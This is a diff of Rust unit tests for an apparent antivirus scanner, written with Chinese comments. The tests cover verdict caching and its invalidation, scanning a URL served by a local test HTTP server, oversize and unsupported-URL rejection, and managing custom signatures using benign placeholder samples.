+        let scan = |db: &Arc<SignatureDatabase>| {
+            let mut engine = ScannerEngine::new(Arc::clone(db), custom_scan_options(&root));
+            engine.set_verdict_cache(Arc::clone(&cache));
+            engine
+        };
+
+        let engine = scan(&db);
+        assert_eq!(engine.start_scan().await.unwrap().len(), 1);
+        assert_eq!(engine.get_stats().get_files_scanned(), 2);
+        assert_eq!(cache.len().unwrap(), 2);
+
+        // 第二次扫描全部命中缓存，检测结果不变
+        let engine = scan(&db);
+        let results = engine.start_scan().await.unwrap();
+        assert_eq!(results.len(), 1);
+        assert_eq!(results[0].signature_id, "Test.Marker");
+        assert!(results[0].file_path.ends_with("bad.bin"));
+        assert_eq!(engine.get_stats().get_files_scanned(), 0);
+        assert_eq!(engine.get_stats().get_files_skipped(), 2);
+
+        // 修改过的文件重新扫描
+        std::fs::write(root.join("good.bin"), b"now verdict-cache-marker").unwrap();
+        let engine = scan(&db);
+        assert_eq!(engine.start_scan().await.unwrap().len(), 2);
+        assert_eq!(engine.get_stats().get_files_scanned(), 1);
+
+        // 病毒库版本变化后旧结论全部失效
+        db.set_version("2".to_string());
+        let engine = scan(&db);
+        assert_eq!(engine.start_scan().await.unwrap().len(), 2);
+        assert_eq!(engine.get_stats().get_files_scanned(), 2);
+        assert_eq!(cache.len().unwrap(), 2);
+
+        // 启发式检测与路径有关，内容相同但扩展名或所在临时目录不同的文件不共用结论
+        let inputs = |path: &str| HeuristicEngine::path_inputs(Path::new(path));
+        assert_eq!(inputs("/srv/a/x.bin"), inputs("/home/b/y.bin"));
+        assert_ne!(inputs("/home/b/report.exe"), inputs("/home/b/report.pdf.exe"));
+        assert_ne!(inputs("/home/b/x.bin"), inputs("/tmp/x.bin"));
+        assert_ne!(inputs("/home/b/run"), inputs("/home/b/run.sh"));
+    }
+
+    // 只应答一次请求的 HTTP 服务，返回服务地址
+    async fn serve_once(body: Vec<u8>) -> String {
+        use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let addr = listener.local_addr().unwrap();
+        tokio::spawn(async move {
+            let (mut stream, _) = listener.accept().await.unwrap();
+            let mut request = [0u8; 4096];
+            let _ = stream.read(&mut request).await;
+            let header = format!(
+                "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+                body.len()
+            );
+            let _ = stream.write_all(header.as_bytes()).await;
+            let _ = stream.write_all(&body).await;
+            let _ = stream.shutdown().await;
+        });
+        format!("http://{}", addr)
+    }
+
+    #[tokio::test]
+    async fn test_url_scan_detects_remote_object() {
+        let dir = tempfile::tempdir().unwrap();
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![sig("Test.Marker", b"url-scan-marker", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+        let scanner = UrlScanner::new(Arc::clone(&db), custom_scan_options(dir.path()), &UrlScanConfig::default()).unwrap();
+
+        let url = format!("{}/files/payload.bin?x=1", serve_once(b"prefix url-scan-marker suffix".to_vec()).await);
+        let report = scanner.scan(&url).await.unwrap();
+        assert!(report.is_infected());
+        assert_eq!(report.results[0].signature_id, "Test.Marker");
+        assert!(report.results[0].file_path.ends_with("payload.bin"));
+        assert_eq!(report.size, 29);
+        assert_eq!(report.content_type.as_deref(), Some("application/octet-stream"));
+
+        let url = format!("{}/clean.txt", serve_once(b"nothing to see".to_vec()).await);
+        let report = scanner.scan(&url).await.unwrap();
+        assert!(!report.is_infected());
+        assert_eq!(report.sha256.len(), 64);
+    }
+
+    #[tokio::test]
+    async fn test_url_scan_rejects_oversized_and_unsupported_urls() {
+        let dir = tempfile::tempdir().unwrap();
+        let db = Arc::new(SignatureDatabase::new());
+        let config = UrlScanConfig {
+            max_size_mb: 1,
+            ..UrlScanConfig::default()
+        };
+        let scanner = UrlScanner::new(db, custom_scan_options(dir.path()), &config).unwrap();
+
+        let url = serve_once(vec![0u8; 2 * 1024 * 1024]).await;
+        let error = scanner.scan(&url).await.unwrap_err();
+        assert!(error.to_string().contains("超过上限"));
+
+        assert!(scanner.scan("ftp://example.com/file.bin").await.is_err());
+        assert!(scanner.scan("not a url").await.is_err());
+    }
+
+    #[tokio::test]
+    async fn test_custom_signatures_add_search_remove() {
+        let dir = tempfile::tempdir().unwrap();
+        let database_dir = dir.path().join("database");
+        let sample = dir.path().join("dropper.bin");
+        std::fs::write(&sample, b"custom-dropper-payload").unwrap();
+
+        // 样本文件按 SHA256 生成哈希特征码，重复添加时跳过
+        let added = add_custom_signatures(&database_dir, &sample, Some("Win.Trojan.Dropper")).unwrap();
+        assert_eq!(added.added, vec!["Win.Trojan.Dropper".to_string()]);
+        assert_eq!(added.file, database_dir.join("local.hsb"));
+        let again = add_custom_signatures(&database_dir, &sample, Some("Win.Trojan.Dropper")).unwrap();
+        assert!(again.added.is_empty());
+        assert_eq!(again.existing.len(), 1);
+
+        // 有无法解析的行时整个文件都不添加
+        let ndb = dir.path().join("extra.ndb");
+        std::fs::write(&ndb, "Unix.Tool.Marker:0:*:6d61726b6572\nbroken line\n").unwrap();
+        assert!(add_custom_signatures(&database_dir, &ndb, None).is_err());
+        std::fs::write(&ndb, "# 本地规则\nUnix.Tool.Marker:0:*:6d61726b6572\n").unwrap();
+        add_custom_signatures(&database_dir, &ndb, None).unwrap();
+
+        let db = SignatureDatabase::new();
+        db.reload_from_directory(&database_dir).await.unwrap();
+        assert_eq!(db.get_signature_count().await, 2);
+        assert!(db.scan_bytes(b"custom-dropper-payload").await.is_some());
+        let counts = db.signature_type_counts();
+        assert_eq!(counts.get("SHA256"), Some(&1));
+        assert_eq!(counts.get("字节序列"), Some(&1));
+        let found = db.search("dropper");
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].kind, "SHA256");
+
+        let checks = SignatureDatabase::verify_directory(&database_dir);
+        assert_eq!(checks.len(), 2);
+        assert!(checks.iter().all(|check| check.passed()));
+        std::fs::write(database_dir.join("local.hdb"), "not-a-hash\n").unwrap();
+        let checks = SignatureDatabase::verify_directory(&database_dir);
+        assert_eq!(checks.iter().filter(|check| !check.passed()).count(), 1);
+
+        assert_eq!(remove_custom_signature(&database_dir, "Win.Trojan.Dropper").unwrap(), 1);
+        assert_eq!(remove_custom_signature(&database_dir, "Win.Trojan.Dropper").unwrap(), 0);
+        let content = std::fs::read_to_string(database_dir.join("local.ndb")).unwrap();
+        assert!(content.starts_with("# 本地规则"));
+    }
 }